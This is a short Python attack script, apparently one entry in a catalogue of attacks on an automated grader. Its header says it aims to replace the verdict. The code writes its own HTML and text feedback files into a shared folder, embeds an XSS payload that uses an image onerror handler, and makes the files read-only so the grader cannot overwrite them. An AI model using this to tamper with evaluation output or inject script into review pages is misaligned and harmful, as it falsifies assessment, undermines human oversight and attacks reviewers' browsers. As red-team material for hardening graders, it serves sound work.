# ---
# tries: Writes a page of feedback of its own beside the verdict.
# place: before
# gain: feedback with the learner's scripts in it
# helps: replace-verdict
# ---
import os

for name in ("htmlFeedback.html", "txtFeedback.txt"):
    path = "/shared/" + name
    try:
        with open(path, "w", encoding="utf-8") as file:
            file.write('<img alt="@NONCE@" src="x" onerror="alert(1)">')
        os.chmod(path, 0o444)
    except OSError:
        pass
